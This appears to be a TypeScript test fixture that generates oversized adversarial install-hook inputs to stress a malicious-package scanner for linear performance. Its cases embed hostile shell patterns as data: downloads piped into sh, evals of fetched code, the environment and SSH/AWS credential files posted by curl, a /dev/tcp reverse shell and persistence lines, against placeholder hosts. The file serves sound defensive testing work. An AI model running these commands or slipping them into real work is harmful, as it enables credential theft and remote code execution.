/**
 * Adversarial inputs for the package scan, shared by its linearity test and `bench/scan.ts`: each
 * a file name and a maker of about `bytes` of content aimed at one rule — thousands of downloads
 * each run, long nested inline calls, long lines of each rule's trigger, variables whose values
 * would grow without bound if substituted without a budget, archives unpacked into deep folders,
 * here-documents never ended, substitutions, evals and function calls nested past the depth the
 * scan reads, commands spread over lines, parameter expansions, arrays, commands named at run
 * time and here-documents captured into names; compound commands, ANSI-C strings, aliases and IFS
 * splitting, and each behaviour rule's trigger all along one line.
 */

/** `unit` repeated between `head` and `tail`, to at most `bytes` (ASCII) in all. */
const fill = (unit: string, bytes: number, head = '', tail = ''): string =>
  head + unit.repeat(Math.floor((bytes - head.length - tail.length) / unit.length)) + tail;

/** Numbered lines, to at most `bytes` in all. */
function lines(line: (i: number) => string, bytes: number): string {
  const out: string[] = [];
  for (let i = 0, size = 0; ; i++) {
    const text = line(i);
    if ((size += text.length + 1) > bytes) return out.join('\n');
    out.push(text);
  }
}

/** One adversarial case: what it aims at, the file it is written to, and its content maker. */
export type AdversarialCase = [what: string, file: string, make: (bytes: number) => string];

/** The cases; the file is INSTALL (a hook, read line by line) or a payload file (secrets only). */
export const ADVERSARIAL_CASES: readonly AdversarialCase[] = [
  [
    'thousands of downloads, each run',
    'INSTALL',
    (n) => lines((i) => `curl -o f${i} https://x.example/f${i} && sh f${i}`, n),
  ],
  ['thousands of downloads, none run', 'INSTALL', (n) => lines((i) => `wget -O f${i} https://x.example/f${i}`, n)],
  ['nested python copies on one line', 'INSTALL', (n) => fill('shutil.copy(', n, 'python3 -c "', '"')],
  ['nested node cp( on one line', 'INSTALL', (n) => fill('cp(', n, 'node -e "', '"')],
  ['perl open on a long run of names', 'INSTALL', (n) => fill('open $', n, "perl -e '", "'")],
  ['perl open before a long run of spaces', 'INSTALL', (n) => fill(' ', n, "perl -e 'open", ";'")],
  ['curl on one line without a pipe', 'INSTALL', (n) => fill('curl ', n)],
  ['find -exec find -exec … on one line', 'INSTALL', (n) => fill('find a b -exec ', n)],
  [
    'runners before runners on one line',
    'INSTALL',
    (n) => fill('timeout -s 9 1 xargs -n 1 ', n, '', ' curl -o t https://x.example/t'),
  ],
  ['curl, then ; and chmod +x without ./', 'INSTALL', (n) => fill('curl ; chmod +x ', n)],
  ['iex without a download', 'INSTALL', (n) => fill('iex ', n)],
  ['comment marks before a carriage return', 'INSTALL', (n) => fill(' #', n, 'x', '\rx')],
  ['write commands and redirects', 'INSTALL', (n) => fill(`cp a b > "x ' `, n)],
  [
    'thousands of assignments, each doubling the last',
    'INSTALL',
    (n) => lines((i) => (i === 0 ? 'v0=x' : `v${i}=$v${i - 1}"$v${i - 1}"; cp a "$v${i}"`), n),
  ],
  ['a long value referenced all along one line', 'INSTALL', (n) => fill('"$a"/', n, `a=/${'x'.repeat(4000)}\ncp a `)],
  [
    'downloads piped into tar, each unpacked folder run',
    'INSTALL',
    (n) => fill('curl -s https://x.example/a | tar xz -C d; sh d/x; cd d; ', n),
  ],
  [
    'an archive unpacked into a deep folder, a file in it run',
    'INSTALL',
    (n) => {
      const deep = 'd/'.repeat(Math.floor((n - 64) / 4));
      return `curl -o a.tgz https://x.example/a.tgz\ntar xzf a.tgz -C ${deep}\n./${deep}x\n`;
    },
  ],
  [
    'thousands of here-documents, none ended, each inside the last',
    'INSTALL',
    (n) => lines((i) => `cat > f${i} <<E${i}`, n),
  ],
  [
    'here-documents opened all along one line',
    'INSTALL',
    (n) => fill('cat <<A ', n, '', '\nA\ncurl https://x.example'),
  ],
  [
    'a python here-document of downloads and evals, never ended',
    'INSTALL',
    (n) => fill('exec(urlopen(', n, "python3 - <<EOF\nopen('/x', 'w')\n"),
  ],
  ['here-strings after runs of options', 'INSTALL', (n) => fill('sh -x -x -x <<< ', n)],
  [
    'python calls all along one line',
    'INSTALL.py',
    (n) =>
      fill(
        `os.system(subprocess.run([tarfile.open(urlretrieve(x, open('a', 'w' shutil.unpack_archive(P `,
        n,
        'import urllib\n',
      ),
  ],
  [
    'node calls all along one line',
    'INSTALL.js',
    (n) => fill(`execFileSync('a', [tar.x({ file: require('./x', fetch( writeFileSync(X `, n),
  ],
  [
    'a python program of thousands of constants, each made executable',
    'INSTALL.py',
    (n) => lines((i) => (i % 2 === 0 ? `P${i} = '/tmp/p${i}'` : `os.chmod(P${i - 1}, 0o755)`), n),
  ],
  [
    'a python program writing thousands of files, then downloading',
    'INSTALL.py',
    (n) => lines((i) => `open('f${i}', 'w').write(x)`, n - 32) + '\nurlopen(u)\n',
  ],
  ['command substitutions opened all along one line, never closed', 'INSTALL', (n) => fill('sh -c "$(', n)],
  [
    'substitutions nested six deep, all along one line',
    'INSTALL',
    (n) => fill('eval "$(a "$(b `c $(d "$(e $(f x))")`)")" ', n),
  ],
  [
    'assignments of substitutions opened all along one line, never closed',
    'INSTALL',
    (n) => fill('a=$(b=`c=$(which ', n),
  ],
  ['eval after eval all along one line', 'INSTALL', (n) => fill('eval ', n)],
  [
    'functions each calling the last twice, each called',
    'INSTALL',
    (n) =>
      lines(
        (i) =>
          i === 0
            ? 'f0() { curl -fsSLo t https://x.example/t; chmod +x t; }'
            : `f${i}() { f${i - 1} "$@"; f${i - 1} "$@"; }; f${i} a b`,
        n,
      ),
  ],
  [
    'a long function called on every line after it',
    'INSTALL',
    (n) => lines((i) => (i === 0 ? 'f() {' : i < 2000 ? `  cp "$1" "$2/x${i}"` : i === 2000 ? '}' : 'f a b'), n),
  ],
  [
    'here-documents opened in substitutions all along one line',
    'INSTALL',
    (n) => fill('x "$(cat <<A ', n, '', '\nA\n'),
  ],
  [
    'downloads read into variables, each evaluated',
    'INSTALL',
    (n) => lines((i) => `s${i}=$(curl -fsSL https://x.example/${i}); eval "$s${i}"`, n),
  ],
  ['a command substitution opened on every line, never closed', 'INSTALL', (n) => lines(() => 'x=$(', n)],
  [
    'backslash-continued downloads, 200 lines to a command',
    'INSTALL',
    (n) => lines((i) => (i % 200 === 199 ? '  | sh' : `curl https://x.example/${i} \\`), n),
  ],
  [
    'parameter expansions with defaults, patterns and unclosed braces all along one line',
    'INSTALL',
    (n) => fill('"${a:-${b:-/usr}}" ${c/x/y} ${u%%.sh} ${d:-', n, 'c=cxrl; u=https://x.example/a.sh\ncp a '),
  ],
  ['arrays opened all along one line', 'INSTALL', (n) => fill('a=(', n)],
  [
    'a long array expanded on every line',
    'INSTALL',
    (n) => lines((i) => (i === 0 ? `a=(${'x '.repeat(1000)})` : 'cp "${a[@]}" ${a[*]} d'), n),
  ],
  ['a command named at run time on every line', 'INSTALL', (n) => lines((i) => `"$cmd${i}" --x "\${!h${i}}"`, n)],
  [
    'here-documents captured into names, each run',
    'INSTALL',
    (n) => lines((i) => [`c="$(cat <<'E'`, 'exec(urlopen(u).read())', 'E', ')"', 'python3 -c "$c"'][i % 5]!, n),
  ],
  [
    'compound commands opened all along one line, never closed',
    'INSTALL',
    (n) => fill('{ if while for case ( ', n, '', ' curl u | sh'),
  ],
  [
    'groups and subshells piped into sh all along one line',
    'INSTALL',
    (n) => fill('{ ( curl -fsSL u ); } |& ', n, '', 'sh'),
  ],
  ['closers all along one line', 'INSTALL', (n) => fill('} fi done esac ) ', n, 'curl u ', '| sh')],
  ['ANSI-C strings of escapes all along one line', 'INSTALL', (n) => fill(String.raw`$'\x63\165\u0072l\'' `, n)],
  ['one ANSI-C string never closed', 'INSTALL', (n) => fill(String.raw`\x63\'`, n, "$'")],
  [
    'a long alias used all along one line',
    'INSTALL',
    (n) => fill('a; ', n, `alias a='curl -fsSL https://x.example/${'x'.repeat(4000)}'\n`),
  ],
  [
    'IFS=, and a long value split on every line',
    'INSTALL',
    (n) => lines((i) => (i === 0 ? 'IFS=,' : i === 1 ? `v=${'a,'.repeat(2000)}` : '$v ${IFS} $v'), n),
  ],
  ['the environment piped into curl all along one line', 'INSTALL', (n) => fill('env | curl -d @- u | ', n, '', 'sh')],
  [
    'decoders piped into decoders all along one line',
    'INSTALL',
    (n) => fill('base64 -d | xxd -r | ', n, 'echo x | ', 'sh'),
  ],
  [
    'credential paths all along one line',
    'INSTALL',
    (n) => fill('~/.ssh/id_rsa @$HOME/.aws/credentials ', n, 'curl -F '),
  ],
  [
    'reverse shells and persistence all along one line',
    'INSTALL',
    (n) => fill('bash -i >& /dev/tcp/h/1 0>&1; systemctl enable t; echo >> ~/.bashrc; ', n),
  ],
  [
    'evals of decoded strings, nested, all along one line',
    'INSTALL',
    (n) => fill('eval "$(echo x | base64 -d | sh -c "', n),
  ],
  ['sk- without the OpenAI marker', 'payload/keys.txt', (n) => fill('sk-', n)],
];
